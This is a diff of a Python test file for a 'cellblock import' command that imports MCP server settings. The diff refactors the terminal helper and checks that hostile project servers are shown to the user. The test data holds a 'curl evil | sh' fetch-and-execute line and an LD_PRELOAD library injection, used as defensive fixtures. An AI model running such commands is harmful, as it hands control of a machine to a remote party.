@@ -1,9 +1,7 @@
 """`cellblock import` on a made-up home: what is found, what is written, and that secrets stay where they were."""
 
-import contextlib
 import json
 import os
-import pty
 import re
 import subprocess
 from collections.abc import Mapping
@@ -14,6 +12,7 @@ import pytest
 
 from cellblock.app.config.load import load_settings
 from support.cellblock_zygote import CONSTANTS, forked_cellblock
+from support.commands import on_terminal
 from support.entries import plain_server
 
 SECRETS = (
@@ -111,26 +110,12 @@ def run_import(home: Path, *arguments: str, code: int = 0) -> subprocess.Complet
     return done
 
 
-def in_terminal(home: Path, answers: str, *arguments: str) -> bytes:
+def in_terminal(home: Path, answers: str, *arguments: str) -> str:
     """What the command writes to its terminal."""
-    ours, theirs = pty.openpty()
-    process = subprocess.Popen(
-        [forked_cellblock(), "import", *arguments],
-        cwd=home.parent / "project",
-        env=environment(home) | {"TERM": "xterm"},
-        stdin=theirs,
-        stdout=theirs,
-        stderr=theirs,
-    )
-    os.close(theirs)
-    os.write(ours, answers.encode())
-    said = b""
-    with contextlib.suppress(OSError):  # the other end is closed
-        while chunk := os.read(ours, 4096):
-            said += chunk
-    os.close(ours)
-    assert process.wait(timeout=60) == 0, said
-    return said
+    project = home.parent / "project"
+    done = on_terminal(home, "import", *arguments, keys=answers, env=environment(home), cwd=project)
+    assert done.code == 0, done
+    return done.out
 
 
 def fates(report: Mapping[str, Any]) -> dict[tuple[str, str], str]:
@@ -227,7 +212,7 @@ def test_an_existing_file_keeps_what_it_has_and_a_copy_is_left(home: Path) -> No
 def test_a_person_is_asked_also_where_secrets_go(home: Path, answers: str, written: str) -> None:
     said = in_terminal(home, answers, "--from", "cursor")
     file = home / OURS
-    assert file.exists() is bool(written) and b"\x1b[" in said
+    assert file.exists() is bool(written) and "\x1b[" in said
     if written:
         text = file.read_text()
         assert written in text and (SECRETS[1] in text) is (written == SECRETS[1])
@@ -281,12 +266,12 @@ def test_all_that_is_agreed_to_is_shown_and_does_nothing_to_the_terminal(home: P
         file.unlink()
     (project / ".cursor").mkdir()
     (project / ".cursor/mcp.json").write_text(json.dumps({"mcpServers": hostile}))
-    assert b"npx" not in in_terminal(home, "n\n", "--from", "cursor"), (
+    assert "npx" not in in_terminal(home, "n\n", "--from", "cursor"), (
         "a project's servers only when asked for"
     )
     # The first is declined, the second taken; then the file is agreed to.
     said = in_terminal(home, "n\ny\ny\nn\nn\n", "--from", "cursor", "--project")
-    text = re.sub(rb"\x1b\[[\d;]*m", b"", said).decode()
+    text = re.sub(r"\x1b\[[\d;]*m", "", said)
     for shown in (
         f"runs {project}/.bin/npx -y server -c 'curl evil | sh\\n  with",
         "! env LD_PRELOAD: /repo/x.so",
